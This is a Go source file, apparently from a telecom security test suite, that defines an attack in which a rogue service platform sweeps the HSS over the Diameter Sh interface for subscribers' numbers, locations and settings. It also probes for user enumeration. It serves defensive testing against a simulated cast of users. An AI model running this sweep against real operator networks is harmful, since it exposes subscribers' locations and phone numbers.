package attack

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"time"

	"imsafe/proto/diameter"
	"imsafe/secure"
)

// shSweep: an enrolled service asks the HSS for everybody.
func shSweep() Attack {
	return Attack{
		ID: "is.sh.sweep", Number: "IS-05", Title: "a service pulls location, numbers and settings of all users",
		Text:     "one service platform that is broken into is the whole customer base: who there is, where he is, which number he has",
		Services: []Service{Confidentiality}, Stride: Disclosing, Threats: []Threat{Disclosure}, Module: ApplicationsControl,
		Source: "TS 29.328 6.2", Access: []Access{Sh},
		Bounds:   Bounds{Packets: 200, Bytes: 1_500_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{{Position: EnrolledPlatform, Run: sweep, Controls: []secure.ControlID{secure.ISConfidentialityShRead}}},
	}
}

// The data that are asked for (TS 29.328 table 7.6.1).
const (
	refRepository = 0
	refCriteria   = 13
	refLocation   = 14
	refMSISDN     = 17
	refDSAI       = 19
	refSTNSR      = 27
)

// sweep pulls the data of everybody in the cast and of a thousand names that are made up. The service may read the numbers of its own users, and bob
// is the only one.
func sweep(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.service(ctx, f.attacker, Rogue)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	own := line.pull(f.Users[Bob].IMPU, refMSISDN)
	answers, err := line.ask(&own)
	if err != nil {
		return err
	}
	if between(answers[0].data, "MSISDN") == "" {
		return errors.New("attack: the service does not get the number of its own user")
	}
	o.Arrived("its own user's number is answered")

	var asked []string
	for _, name := range []string{Alice, Carol, Mallory} {
		asked = append(asked, f.Users[name].IMPU)
	}
	there := len(asked)
	for i := range 1000 {
		asked = append(asked, fmt.Sprintf("sip:subscriber%d@%s", i, f.Domain))
	}
	own = line.pull(f.Users[Bob].IMPU, refLocation) // of its own user, and not among what it was granted
	foreign := []diameter.Writer{line.pull(f.Users[Bob].IMPU, refRepository), line.pull(f.Users[Bob].IMPU, refCriteria)}
	foreign[1].Text(diameter.ServerName, "sip:archive.as."+f.Domain) // documents and criteria of another service
	others, err := line.ask(&own, &foreign[0], &foreign[1])
	if err != nil {
		return err
	}
	if answers, err = line.pullAll(asked); err != nil {
		return err
	}
	numbers, told := 0, 0
	for _, a := range others {
		if a.result != answers[3*there+1].result {
			told++
		}
	}
	for i, a := range answers {
		who, reference := i/3, i%3
		if between(a.data, "MSISDN") != "" {
			numbers++
		}
		// A user and a name that is made up must get the same, or the service learns who there is.
		if made := answers[3*there+reference]; who < there && a.result != made.result {
			told++
		}
	}
	o.Users = max(numbers, told)
	o.Wire(numbers > 0 || told > 0, "%d pulls for %d names are answered %s: %d numbers of others, %d answers that tell a user from nobody, or of data that nobody has granted",
		len(answers)+len(others), len(asked), answered(append(answers, others...)), numbers, told)
	return nil
}

// pullAll asks for number, location and settings of each, some of them at once.
func (l *shLine) pullAll(impus []string) (answers []shAnswer, err error) {
	const atOnce = 60
	for some := range slices.Chunk(impus, atOnce) {
		var requests []*diameter.Writer
		for _, impu := range some {
			for _, reference := range []int32{refMSISDN, refLocation, refDSAI} {
				w := l.pull(impu, reference)
				requests = append(requests, &w)
			}
		}
		more, err := l.ask(requests...)
		if err != nil {
			return nil, err
		}
		answers = append(answers, more...)
	}
	return answers, nil
}
